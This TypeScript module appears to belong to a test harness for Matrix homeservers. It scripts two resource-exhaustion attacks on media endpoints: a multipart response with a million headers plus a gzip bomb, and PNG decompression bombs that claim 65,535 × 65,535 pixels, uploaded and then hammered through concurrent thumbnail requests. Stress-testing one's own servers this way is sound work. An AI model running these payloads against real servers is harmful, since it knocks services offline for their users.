/**
 * Attacks by media: what is larger than it looks.
 *
 * @module
 */

import { crc32, deflateSync, gzipSync } from 'node:zlib'
import { flood } from './arena.ts'
import type { Scenario } from './scenario.ts'

export const parts: Scenario = {
  name: 'media',
  what: 'media of a million part headers, and pressed to a thousandth',
  run: async ({ attacker: { peer }, victim, durationMs }) => {
    const bomb = `--x\r\nContent-Type: application/json\r\n\r\n{}\r\n--x\r\n${'a: b\r\n'.repeat(1_000_000)}\r\nx\r\n--x--`
    const type = 'multipart/mixed; boundary=x'
    const pressed = gzipSync(Buffer.alloc(10_000_000)).toString('latin1')
    const headers = { 'content-type': type }
    peer.scripts.set('media/download', ({ params: [mediaId = ''] }) =>
      mediaId.startsWith('p')
        ? { status: 200, text: pressed, headers: { ...headers, 'content-encoding': 'gzip' } }
        : { status: 200, text: bomb, headers },
    )
    const statuses = await flood(durationMs, 10, async (at) => {
      const url = `${victim.baseUrl}/_matrix/client/v1/media/download/${peer.name}/${at % 2 ? 'p' : 'm'}${at}`
      const answer = await fetch(url, { headers: { authorization: `Bearer ${victim.token}` } })
      await answer.arrayBuffer()
      return { status: answer.status }
    })
    peer.scripts.clear()
    return statuses
  },
}

/** A PNG that says to have so many pixels, and has none to speak of. */
function png(width: number, height: number): Buffer {
  const chunk = (name: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(name), data])
    const frame = Buffer.alloc(8)
    frame.writeUInt32BE(data.length, 0)
    frame.writeUInt32BE(crc32(body), 4)
    return Buffer.concat([frame.subarray(0, 4), body, frame.subarray(4)])
  }
  const head = Buffer.from([0, 0, 0, 0, 0, 0, 0, 0, 8, 2, 0, 0, 0])
  head.writeUInt32BE(width, 0)
  head.writeUInt32BE(height, 4)
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', head),
    chunk('IDAT', deflateSync(Buffer.alloc(30_000_000))),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

export const images: Scenario = {
  name: 'images',
  what: 'thumbnails of pictures of 65,535 × 65,535 and 3,000 × 3,000 pixels in 30 KB, ten at a time',
  run: async ({ victim, durationMs }) => {
    const headers = { authorization: `Bearer ${victim.token}`, 'content-type': 'image/png' }
    const media: string[] = []
    for (const body of [png(65_535, 65_535), png(3000, 3000)]) {
      const url = `${victim.baseUrl}/_matrix/media/v3/upload`
      const answer = await fetch(url, { method: 'POST', headers, body: new Uint8Array(body) })
      const { content_uri } = (await answer.json()) as { content_uri: string }
      media.push(content_uri.slice('mxc://'.length))
    }
    return await flood(durationMs, 10, async (at) => {
      const size = 10 + (at % 700)
      const path = `thumbnail/${media[at % 2]}?width=${size}&height=${size}&method=crop`
      const answer = await fetch(`${victim.baseUrl}/_matrix/client/v1/media/${path}`, { headers })
      await answer.arrayBuffer()
      return { status: answer.status }
    })
  },
}
